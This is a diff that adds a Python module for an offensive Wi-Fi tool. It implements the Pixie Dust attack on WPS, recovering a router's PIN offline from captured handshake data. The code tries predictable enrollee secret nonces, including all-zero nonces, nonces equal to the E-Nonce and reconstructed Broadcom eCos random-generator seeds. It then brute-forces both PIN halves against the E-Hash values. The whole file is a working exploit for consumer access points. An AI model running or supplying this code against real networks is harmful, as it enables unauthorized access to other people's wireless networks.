@@ -0,0 +1,194 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+
+"""
+In-process Pixie Dust engine for the weak E-S1/E-S2 cases that need no
+external pixiewps: all-zero secret nonces (Ralink, MediaTek), nonces
+equal to the E-Nonce, a dumped E-SNonce, and the eCos LCGs of Broadcom
+firmware, which also generate the E-Nonce. The seed search of the
+"simple" eCos generator needs NumPy; without it that case is left to
+pixiewps.
+"""
+
+import time
+import hashlib
+import struct
+
+try:
+    import numpy
+except ImportError:
+    numpy = None
+
+from .wps import WPSpin
+from .pixiewps import PixiewpsResult
+
+# glibc-style LCG used by eCos rand()
+ECOS_MULTIPLIER = 1103515245
+ECOS_INCREMENT = 12345
+# Park–Miller "minimal standard" generator of the Knuth variant
+KNUTH_MODULUS = 2147483647
+KNUTH_MULTIPLIER = 48271
+
+NONCE_LEN = 16
+
+_numpy_notice_shown = False
+
+
+class _HmacSha256:
+    """HMAC-SHA256 with the keyed inner and outer states computed once, reused for every message"""
+    def __init__(self, key):
+        key = key.ljust(64, b'\0')
+        self.inner = hashlib.sha256(bytes(b ^ 0x36 for b in key))
+        self.outer = hashlib.sha256(bytes(b ^ 0x5c for b in key))
+
+    def digest(self, message):
+        inner = self.inner.copy()
+        inner.update(message)
+        outer = self.outer.copy()
+        outer.update(inner.digest())
+        return outer.digest()
+
+
+def _ecos_next(state):
+    return (state * ECOS_MULTIPLIER + ECOS_INCREMENT) & 0xffffffff
+
+def _ecos_simplest(state):
+    """Each output is the next state; returns (output, state)"""
+    state = _ecos_next(state)
+    return state, state
+
+def _ecos_simple(state):
+    """Each output takes the top 11, 14 and 7 bits of three consecutive states; returns (output, state)"""
+    s1 = _ecos_next(state)
+    s2 = _ecos_next(s1)
+    s3 = _ecos_next(s2)
+    return (s1 & 0xffe00000) + ((s2 & 0xfffc0000) >> 11) + ((s3 & 0xfe000000) >> 25), s3
+
+def _ecos_knuth(state):
+    state = state * KNUTH_MULTIPLIER % KNUTH_MODULUS
+    return state, state
+
+def _generate(rand, state, words):
+    out = []
+    for _ in range(words):
+        value, state = rand(state)
+        out.append(value)
+    return out, state
+
+
+class PixieNativeEngine:
+    """Recovers the PIN from PixiewpsData when the enrollee secret nonces are predictable"""
+    def __init__(self, data):
+        self.data = data
+        self.tail = data.pke + data.pkr
+        self.hmac = _HmacSha256(data.authkey)
+        self.__psk1 = None
+
+    def __psk(self, half):
+        return self.hmac.digest(half)[:16]
+
+    def __hashMatches(self, es, psk, e_hash):
+        return self.hmac.digest(es + psk + self.tail) == e_hash
+
+    def firstHalf(self, es1):
+        """Returns the first half of the PIN for the E-S1 candidate, or None"""
+        if self.__psk1 is None:
+            self.__psk1 = [(i, self.__psk(b'%04d' % i)) for i in range(10000)]
+        for i, psk1 in self.__psk1:
+            if self.__hashMatches(es1, psk1, self.data.e_hash1):
+                return '%04d' % i
+        return None
+
+    def secondHalf(self, es2, first_half):
+        """Returns the second half of the PIN for the E-S2 candidate, or None"""
+        checksum_first = [int(first_half + '%03d' % i) for i in range(1000)]
+        # PINs with a valid checksum first, then the full range
+        candidates = ['%03d%d' % (n % 1000, WPSpin.checksum(n)) for n in checksum_first]
+        candidates += ['%04d' % i for i in range(10000)]
+        for half in candidates:
+            if self.__hashMatches(es2, self.__psk(half.encode()), self.data.e_hash2):
+                return half
+        return None
+
+    def __ecosCandidates(self):
+        """E-S1/E-S2 pairs of the eCos generators that reproduce the E-Nonce"""
+        nonce = self.data.e_nonce
+        for order in ('>', '<'):
+            words = list(struct.unpack(order + '4I', nonce))
+            pack = lambda values: struct.pack(order + '4I', *values)
+            states = [('eCos simplest', _ecos_simplest, words[0])]
+            if 0 < words[0] < KNUTH_MODULUS:
+                states.append(('eCos Knuth', _ecos_knuth, words[0]))
+            for state in self.__ecosSimpleStates(words[0]):
+                states.append(('eCos simple', _ecos_simple, state))
+            for name, rand, state in states:
+                rest, state = _generate(rand, state, 3)
+                if rest != words[1:]:
+                    continue
+                es1, state = _generate(rand, state, 4)
+                es2, state = _generate(rand, state, 4)
+                yield name, pack(es1), pack(es2)
+
+    @staticmethod
+    def __ecosSimpleStates(word):
+        """
+        States after the first output of the eCos simple generator that yield the word.
+        The word fixes the top 11 bits of the first state; the remaining 2^21 values are
+        checked against the 14 and 7 bits taken from the next two states
+        """
+        if numpy is None:
+            return []
+        s1 = numpy.arange(1 << 21, dtype=numpy.uint32) | numpy.uint32(word & 0xffe00000)
+        multiplier, increment = numpy.uint32(ECOS_MULTIPLIER), numpy.uint32(ECOS_INCREMENT)
+        s2 = s1 * multiplier + increment
+        s1 = s1[(s2 >> numpy.uint32(18)) == numpy.uint32((word >> 7) & 0x3fff)]
+        s2 = s1 * multiplier + increment
+        s3 = s2 * multiplier + increment
+        return [int(s) for s in s3[(s3 >> numpy.uint32(25)) == numpy.uint32(word & 0x7f)]]
+
+    def candidates(self):
+        """(case, E-S1, E-S2) in order of likelihood; E-S2 is None when only E-S1 can be guessed"""
+        zero = bytes(NONCE_LEN)
+        yield 'zero E-S', zero, zero
+        if len(self.data.e_nonce) == NONCE_LEN:
+            yield 'E-S = E-Nonce', self.data.e_nonce, self.data.e_nonce
+        if len(self.data.e_snonce) == NONCE_LEN:
+            yield 'E-SNonce', self.data.e_snonce, None
+        if len(self.data.e_nonce) == NONCE_LEN:
+            yield from self.__ecosCandidates()
+
+    def crack(self):
+        """Returns (PIN, case) or (None, None)"""
+        for case, es1, es2 in self.candidates():
+            first_half = self.firstHalf(es1)
+            if first_half is None or es2 is None:
+                continue
+            second_half = self.secondHalf(es2, first_half)
+            if second_half is not None:
+                return first_half + second_half, case
+        return None, None
+
+
+def numpy_notice():
+    """Tells once per process that the eCos simple seed search is skipped for lack of NumPy"""
+    global _numpy_notice_shown
+    if numpy is None and not _numpy_notice_shown:
+        print('[i] NumPy is not installed: the eCos simple seed search is left to pixiewps')
+        _numpy_notice_shown = True
+
+
+def native_crack(data):
+    """
+    Tries the in-process engine on PixiewpsData
+    Returns PixiewpsResult; its pin is None if pixiewps is still needed
+    """
+    result = PixiewpsResult()
+    start = time.monotonic()
+    numpy_notice()
+    if data.got_all() and len(data.authkey) == 32:
+        pin, case = PixieNativeEngine(data).crack()
+        if pin is not None:
+            result.pin = pin
+            result.strategy = 'Native ({})'.format(case)
+    result.wall_time = time.monotonic() - start
+    return result